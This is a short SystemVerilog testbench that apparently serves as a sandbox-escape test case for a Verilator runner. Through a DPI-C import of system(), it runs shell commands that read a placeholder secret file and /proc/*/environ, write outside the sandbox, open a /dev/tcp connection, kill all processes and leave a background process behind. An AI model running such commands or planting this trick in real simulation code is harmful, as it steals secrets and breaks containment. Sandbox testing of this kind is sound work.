// run: verilator; ends: no_evidence crash compile_error mismatch; plain limits: let it; attack: imports the C library's system() and runs a shell
module tb;
  import "DPI-C" function int system(string command);
  int done;
  initial begin
    done = system({"cat @SECRET_FILE@ /proc/*/environ; echo overwritten > @OUTSIDE@; ",
                   "bash -c 'echo hello > /dev/tcp/127.0.0.1/@PORT@'; kill -9 -1; setsid sleep 600 &"});
    $finish;
  end
endmodule
